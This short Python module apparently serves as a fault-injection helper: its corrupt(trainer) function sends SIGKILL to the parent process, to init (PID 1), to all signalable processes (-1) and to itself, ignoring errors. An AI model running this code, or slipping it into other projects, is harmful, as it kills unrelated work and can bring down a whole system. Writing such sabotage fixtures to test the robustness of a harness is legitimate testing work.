"""Kills whatever it may: its parent, all processes, itself."""

import os
import signal


def corrupt(trainer):
    for target in (os.getppid(), 1, -1, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
